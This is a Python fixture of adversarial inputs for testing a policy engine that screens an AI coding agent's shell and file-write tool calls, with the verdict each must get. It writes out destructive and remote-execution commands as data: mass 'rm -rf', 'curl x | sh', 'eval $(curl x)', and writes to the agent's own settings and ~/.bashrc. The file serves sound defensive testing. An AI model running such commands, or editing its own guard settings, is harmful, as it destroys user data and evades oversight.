"""The pathological inputs of issue 13: each at (or just over) a `[limits]` cap, or in a field no cap
covers, as an attacker would pick them, with the verdict each must get. Shared by
tests/unit/enrich/test_pathological.py (each gets that verdict) and bench/stall.py (what each costs the
other sessions). Gemini CLI payloads: (event, payload fields besides session and cwd)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Shape:
    name: str
    event: str
    fields: dict[str, Any]
    outcome: str  # deny, ask, allow
    rule: str  # the rule id the verdict names ("" for an allow)


def _shell(command: str) -> dict[str, Any]:
    return {"tool_name": "run_shell_command", "tool_input": {"command": command}}


SHAPES = [
    # under the caps: what the policies must still evaluate
    Shape("rm -rf, 250 paths outside the project", "BeforeTool",
          _shell("rm -rf " + " ".join(f"/srv/d{i}" for i in range(250))), "deny", "rm-rf-outside-project"),
    Shape("find, 250 start paths, -delete", "BeforeTool",
          _shell("find " + " ".join(f"/srv/d{i}" for i in range(250)) + " -delete"), "deny",
          "find-delete-outside-project"),
    Shape("curl x | sh, 80 times in one pipeline", "BeforeTool", _shell(" | ".join(["curl x", "sh"] * 80)),
          "deny", "pipe-to-shell"),
    Shape("base64 -d | sh, 80 times", "BeforeTool", _shell(" | ".join(["base64 -d", "sh"] * 80)), "deny",
          "decoded-pipe-to-shell"),
    Shape("eval $(curl x), 30 times", "BeforeTool", _shell(" ; ".join(["eval $(curl x)"] * 30)), "deny",
          "remote-script-exec"),
    Shape("sudo rm -rf, 250 paths", "BeforeTool", _shell("sudo rm -rf " + " ".join(f"f{i}" for i in range(250))),
          "deny", "sudo-destructive"),
    Shape("32 nested $( (the substitution cap)", "BeforeTool", _shell("echo " + "$(" * 32 + "id" + ")" * 32),
          "deny", "dynamic-command"),
    Shape("8,000 distinct f(){ in one 60 KB argument", "BeforeTool",
          _shell("echo '" + "".join(f"f{i}(){{" for i in range(8000))[:60000] + "' | x"), "allow", ""),
    # over a cap: a deny by rule without parsing or evaluating
    Shape("rm -rf, 20,000 arguments", "BeforeTool", _shell("rm -rf " + " ".join(["ab"] * 20_000)), "deny",
          "input-limit"),
    Shape("100 nested $(", "BeforeTool", _shell("echo " + "$(" * 100 + "id" + ")" * 100), "deny", "input-limit"),
    Shape("read_many_files, 5,000 paths", "BeforeTool",
          {"tool_name": "read_many_files", "tool_input": {"paths": [f"src/f{i}.py" for i in range(5000)]}}, "deny",
          "input-limit"),
    # loops in loops: 16 words in each of four once walked the body 65,536 times (20 s); the line's walks are bounded
    Shape("four nested for loops of 16 words", "BeforeTool",
          _shell("".join(f"for {v} in {' '.join(map(str, range(16)))}; do " for v in "abcd") + "rm -rf $a$b$c$d"
                 + "; done" * 4), "deny", "input-limit"),
    # what a short line multiplies: each call of a function, use of an alias, `set -- "$@" "$@"` walks again (a 4 KB
    # line of 50,000 commands never finished): the line walks at most WALK_WORDS words, then is not known
    Shape("a function of 100 commands called 500 times", "BeforeTool",
          _shell("f(){ " + "rm -rf /srv/a /srv/b; " * 100 + "}; " + "f; " * 500), "deny", "input-limit"),
    Shape("an alias of 100 commands used 500 times", "BeforeTool",
          _shell("alias r='" + "rm -rf /srv/a; " * 100 + "'\n" + "r\n" * 500), "deny", "input-limit"),
    Shape("set -- \"$@\" \"$@\" twenty times", "BeforeTool",
          _shell("set -- " + " ".join(f"x{i}" for i in range(100)) + "; set -- \"$@\" \"$@\"" * 20 + '; rm -rf "$@"'),
          "deny", "input-limit"),
    # a value doubled by the line (a=$a$a thirty times: a gigabyte) is not known past VALUE_CHARS
    Shape("a=$a$a thirty times, then rm -rf $a", "BeforeTool",
          _shell("a=/srv/x; " + "a=$a$a; " * 30 + "rm -rf $a"), "deny", "rm-rf-unresolved"),
    # a path of 30,000 names: each prefix was looked up and kept (quadratic); past PATH_MAX the rest is lexical
    Shape("rm -rf /a/a/…/a, 30,000 names", "BeforeTool", _shell("rm -rf " + "/a" * 30_000), "deny",
          "rm-rf-outside-project"),
    # a word of 24,000 slashes: each of its 24,000 parents was copied to look for a protected place there
    Shape("sed, a script of 8,000 s/a/b/", "BeforeTool", _shell("sed -e '" + "s/a/b/;" * 8000 + "' f"), "allow", ""),
    # one command of 3,000 redirections: each a path the policies judge, no cap counted them (260 ms)
    Shape("echo with 3,000 redirections", "BeforeTool",
          _shell("echo x " + " ".join(f">/srv/f{i}" for i in range(3000))), "deny", "unparsable-shell"),
    # 12,000 brace groups nested in one word: each group scanned the word again (1.9 s); past 64 it is not known
    Shape("rm -rf of 12,000 nested brace groups", "BeforeTool",
          _shell("rm -rf " + "{a," * 12_000 + "/srv" + "}" * 12_000), "deny", "rm-rf-unresolved"),
    # JSON nested deeper than Python's decoder goes (2,000 `[` in 4 KB): a RecursionError was an engine error (a deny
    # where the event fails closed, an allow where an organisation set it to fail open); now an unreadable text
    Shape("write_file of a JSON of 2,000 nested [", "BeforeTool",
          {"tool_name": "write_file", "tool_input": {"file_path": "data.json", "content": "[" * 2000 + "]" * 2000}},
          "allow", ""),
    Shape("write_file of ~/.claude/settings.json, 2,000 nested [", "BeforeTool",
          {"tool_name": "write_file", "tool_input": {"file_path": "/home/u/.claude/settings.json",
                                                     "content": '{"x": ' + "[" * 2000 + "]" * 2000 + "}"}},
          "deny", "hookd-self-protection"),
    Shape("write_file of uv.toml, 3,000 nested [", "BeforeTool",
          {"tool_name": "write_file",
           "tool_input": {"file_path": "uv.toml", "content": "x = " + "[" * 3000 + "]" * 3000}},
          "allow", ""),
    # 900 nested ${a:- (5 KB): each level scanned its own text for substitutions again (330 ms)
    Shape("echo of 900 nested ${a:-", "BeforeTool", _shell("echo " + "${a:-" * 900 + "x" + "}" * 900), "allow", ""),
    # no cap: large fields other than the command (the frame's 16 MiB bounds them)
    Shape("shell description of 4 MB", "BeforeTool",
          {"tool_name": "run_shell_command", "tool_input": {"command": "ls", "description": "x" * 4_000_000}},
          "allow", ""),
    Shape("write_file of 4 MB", "BeforeTool",
          {"tool_name": "write_file", "tool_input": {"file_path": "data.txt", "content": "x = 1\n" * 700_000}},
          "allow", ""),
    Shape("prompt of 4 MB", "BeforeAgent", {"prompt": "x" * 4_000_000}, "allow", ""),
    # a startup file's text of settings that fails on its last line: once tried 2^n ways (60 lines: never decided)
    Shape("write_file of ~/.bashrc, 60 settings then (", "BeforeTool",
          {"tool_name": "write_file", "tool_input": {"file_path": "/home/u/.bashrc", "content": "A=b\n" * 60 + "("}},
          "deny", "startup-file"),
]  # fmt: skip
